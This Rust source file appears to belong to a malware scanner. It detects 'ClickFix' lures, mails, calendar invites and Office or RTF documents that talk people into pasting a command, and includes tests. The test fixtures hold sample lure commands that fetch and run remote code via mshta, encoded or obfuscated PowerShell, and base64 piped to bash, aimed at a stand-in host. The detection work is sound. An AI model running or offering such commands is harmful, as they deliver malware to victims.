//! Mails, appointments and documents that talk people into typing or pasting a command: nothing copies it, and nothing has to.
//!
//! Manuals name commands as well, and so does whoever warns of such mails: only what gives a reason of its own, says where and how,
//! and shows a command that hides what it does is one.

use super::{CLICK_FIX, Lure, MESSAGE, finding, is_page};
use crate::Findings;
use crate::detectors::clipboard::shown_from_afar;
use crate::text::{cut, normalise, patterns, without_entities};
use lazaret_model::{Class, Part, Role, Severity};
use std::borrow::Cow;

/// Bytes of a text that is no mail and still no more than a note.
const NOTE: u64 = 16 << 10;

/// Digits of a word that is read by nobody.
const MOST_DIGITS: usize = 2_000;

patterns! {
    // Where a line ends in HTML, and in the XML of Office Open XML and OpenDocument.
    BREAK = r"(?i)</(?:[a-z]{1,8}:)?(?:p|h[1-6]?|div|tr|li|pre|si|table|row)>|<(?:br|[a-z]{1,8}:(?:br|cr|tab|line-break))\b[^<>]*>";
    ELEMENT = r"</?[A-Za-z!?][^<>]*>";
    // RFC 5545, 3.1: a line that begins with a blank goes on from the one before.
    FOLD = r"\r?\n[ \t]";
    // RFC 5545, 3.3.11.
    NEW_LINE = r"\\[nN]";
    ESCAPE = r"\\([\\,;:])";
}

/// Whether a part is a text that somebody sends or hands over. Pages are not: what one shows for people to mark is looked at there.
pub(super) fn wants(part: &Part) -> bool {
    let mail = part.role == Role::Body || part.role == Role::Attachment && part.is("html");
    let within = |kinds: &[&str]| part.within.iter().any(|id| kinds.contains(&&**id));
    match () {
        () if part.is("ics") || part.is("vcard") => part.size <= MESSAGE,
        () if ["text", "mail-body", "markdown"].iter().any(|kind| part.is(kind)) => {
            part.size <= if mail { MESSAGE } else { NOTE }
        }
        () if part.is("html") => (mail || within(&["ics", "vcard"])) && part.size <= MESSAGE,
        () if FLAT.iter().any(|kind| part.is(kind)) => part.size <= 8 * MESSAGE,
        // Of a document's markup only the words count, which are a tenth of it.
        () if part.is("xml") => part.role == Role::Member && within(DOCUMENTS) && part.size <= 8 * MESSAGE,
        () => false,
    }
}

/// Documents whose text is XML among their members.
const DOCUMENTS: &[&str] = &[
    "docx", "docm", "dotx", "dotm", "xlsx", "xlsm", "xltx", "xltm", "pptx", "pptm", "ppsx", "ppsm", "potx", "potm",
    "vsdx", "ooxml", "odt", "ott", "odm", "ods", "ots", "odp", "otp", "odg", "sxw",
];

/// Documents that are one file of text.
const FLAT: &[&str] = &["fodt", "word-xml", "excel-xml", "rtf"];

/// Judges a text by what it says and shows.
pub(super) fn asks(part: &Part, text: &str, findings: &mut Findings) {
    if !findings.step(text.len() as u64) {
        return;
    }
    let text = match () {
        () if part.is("ics") || part.is("vcard") => Cow::Owned(unfolded(text)),
        () if part.is("rtf") => Cow::Owned(without_controls(text)),
        () => Cow::Borrowed(text),
    };
    let Some(lure) = Lure::of_prose(&text).filter(|lure| lure.told && !lure.reported) else { return };
    if findings.list().iter().any(|found| found.id == CLICK_FIX) {
        return;
    }
    let markup = is_page(part) || !part.is("rtf") && FLAT.iter().any(|kind| part.is(kind));
    let plain = if markup {
        without_entities(&ELEMENT.replace_all(&BREAK.replace_all(&text, "\n"), ""))
    } else {
        text.into_owned()
    };
    if plain.len() as u64 > MESSAGE {
        return;
    }
    let Some(command) = shown_from_afar(&normalise(&plain)) else { return };
    let what = if part.kind.class == Class::Text { "text" } else { "file" };
    let message = format!("the {what} talks people into running a command that it shows");
    let found = finding(CLICK_FIX, Severity::High, &message, &command).with("words", cut(&lure.words));
    findings.add(found.technique("T1204.004"));
}

/// What Rich Text shows, without its controls (Rich Text Format 1.9.1, "Control Word"), pictures and objects.
fn without_controls(text: &str) -> String {
    let mut plain = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find(['\\', '{', '}', '\r', '\n']) {
        let (before, control) = rest.split_at(at);
        plain.push_str(before);
        let Some(control) = control.strip_prefix('\\') else {
            rest = control.get(1..).unwrap_or_default();
            continue;
        };
        if let Some(code) = control.strip_prefix('\'') {
            let byte = code.get(..2).and_then(|code| u8::from_str_radix(code, 16).ok());
            plain.extend(byte.map(char::from));
            rest = code.get(2..).unwrap_or(code);
            continue;
        }
        let word = control.find(|c: char| !c.is_ascii_alphabetic()).unwrap_or(control.len());
        let (word, behind) = control.split_at(word);
        if word.is_empty() {
            // A sign that stands for itself, or a blank that does not break.
            let sign = behind.chars().next().unwrap_or(' ');
            plain.push(if sign == '~' { ' ' } else { sign });
            rest = behind.get(sign.len_utf8()..).unwrap_or_default();
            continue;
        }
        let digits = behind.find(|c: char| c != '-' && !c.is_ascii_digit()).unwrap_or(behind.len());
        let (number, behind) = behind.split_at(digits);
        rest = behind.strip_prefix(' ').unwrap_or(behind);
        match word {
            "par" | "line" | "cell" | "row" | "sect" | "page" => plain.push('\n'),
            "tab" => plain.push(' '),
            // Negative numbers are the upper half of 16 bits; a sign for readers that do not know the letter follows.
            "u" => {
                let code = number.parse::<i32>().ok().map(|code| if code < 0 { code + 0x1_0000 } else { code });
                plain.extend(code.and_then(|code| u32::try_from(code).ok()).and_then(char::from_u32));
                rest = rest.strip_prefix('?').unwrap_or(rest);
            }
            _ => {}
        }
    }
    plain.push_str(rest);
    // LIMIT: pictures and objects are one long word of digits, which nobody reads.
    let data = |word: &&str| word.len() > MOST_DIGITS && word.bytes().all(|byte| byte.is_ascii_hexdigit());
    plain.split_inclusive(char::is_whitespace).filter(|word| !data(&word.trim_end())).collect()
}

/// A calendar's texts as people see them.
fn unfolded(text: &str) -> String {
    let text = FOLD.replace_all(text, "");
    let text = NEW_LINE.replace_all(&text, "\n");
    ESCAPE.replace_all(&text, "$1").into_owned()
}

#[cfg(test)]
mod tests {
    use super::super::Pages;
    use crate::detectors::test_part::{check_part, part};
    use lazaret_model::{Class, Kind, Part, Role};

    const TOLD: &[&str] = &["page.click-fix high"];

    fn made(kind: &'static str, class: Class, role: Role, within: &'static str) -> Part {
        let mut made = part(kind);
        (made.kind, made.role) = (Kind::new(kind, class, "application/octet-stream"), role);
        if !within.is_empty() {
            made.within = vec![within.into()];
        }
        made
    }

    fn mail() -> Part {
        made("mail-body", Class::Text, Role::Body, "eml")
    }

    #[test]
    fn texts_that_give_a_reason_and_show_a_command_are_found_in_mails_appointments_and_documents() {
        let page = made("html", Class::Web, Role::Body, "eml");
        let appointment = made("ics", Class::Data, Role::Sample, "");
        let document = made("xml", Class::Data, Role::Member, "docx");
        let note = made("text", Class::Text, Role::Sample, "");
        let rich = made("rtf", Class::Document, Role::Sample, "");
        let guide = made("markdown", Class::Text, Role::Member, "zip");
        let flat = made("fodt", Class::Document, Role::Attachment, "eml");
        for (part, text) in [
            (&mail(), "To verify you are human press Win+R, Ctrl+V and Enter:\nmshta https://host.invalid/a"),
            (
                &mail(),
                "Verify you are human: press Win+R and paste powershell -w hidden -enc VwByAGkAdABlAC0ASABvAHMAdAA=",
            ),
            (&mail(), "I am not a robot: open Terminal, press Cmd+V:\necho YQ== | base64 -d | bash"),
            (&mail(), "Verify you are human: press Win+R, Ctrl+V\n\\\\host.invalid\\s\\a.exe"),
            (&note, "To verify you are human press Win+R, Ctrl+V:\n`powers^hell -w h -c iex(irm host.invalid)`"),
            (
                &page,
                "<p>To verify you are human press <b>Win</b>+<b>R</b>, Ctrl+V</p><p>msh<i></i>ta https://host.invalid/a</p>",
            ),
            (
                &appointment,
                "BEGIN:VEVENT\r\nDESCRIPTION:To verify you are human\\, press Win+R\\nand pas\r\n te ms\r\n hta https://host.invalid/a\r\nEND:VEVENT\r\n",
            ),
            (
                &document,
                "<w:p><w:r><w:t>Verify you are human: press Win+R, Ctrl+V </w:t></w:r></w:p><w:p><w:r><w:t>msh</w:t></w:r><w:r><w:t>ta https://host.invalid/a</w:t></w:r></w:p>",
            ),
            (&guide, "# Verify\nVerify you are human: press Win+R, Ctrl+V:\n`mshta https://host.invalid/a`"),
            (
                &rich,
                "{\\rtf1{\\fonttbl{\\f0 Arial;}}To verify you are human press {\\b Win}+R, Ctrl+V\\par\r\nmsh\\b0 ta \\'68ttps://host.invalid/a\\par}",
            ),
            (
                &flat,
                "<text:p>To verify you are human press Win+R, Ctrl+V</text:p><text:p>ms<text:span>hta</text:span> https://host.invalid/a</text:p>",
            ),
        ] {
            check_part(&Pages, part, text.as_bytes(), TOLD);
        }
    }

    #[test]
    fn manuals_and_whoever_warns_of_them_are_left_alone() {
        let document = made("xml", Class::Data, Role::Member, "docx");
        for (part, text) in [
            // No reason.
            (&mail(), "To install it press Win+R, paste with Ctrl+V: msiexec /i https://host.invalid/a.msi"),
            // Nothing that hides.
            (&mail(), "To fix the issue press Win+R, paste it with Ctrl+V: cmd /c ipconfig /flushdns"),
            (&mail(), "To fix the issue press Win+R, Ctrl+V: certutil -pulse"),
            // No command.
            (&mail(), "We ask you to verify you are human. Never press Win+R and paste anything."),
            // Told of others.
            (
                &mail(),
                "Attackers ask their victims to verify you are human: Win+R, Ctrl+V, mshta https://host.invalid/a",
            ),
            (
                &document,
                "<w:p><w:t>ClickFix: the threat actors show \"verify you are human\", Win+R, Ctrl+V and mshta https://host.invalid/a</w:t></w:p>",
            ),
        ] {
            check_part(&Pages, part, text.as_bytes(), &[]);
        }
        // A page is judged by what it has people mark, and a book is no message.
        let page = made("html", Class::Web, Role::Sample, "");
        let lure = "Verify you are human: press Win+R, Ctrl+V: mshta https://host.invalid/a";
        check_part(&Pages, &page, lure.as_bytes(), &[]);
        let mut book = made("text", Class::Text, Role::Sample, "");
        book.size = 1 << 20;
        check_part(&Pages, &book, lure.as_bytes(), &[]);
    }
}
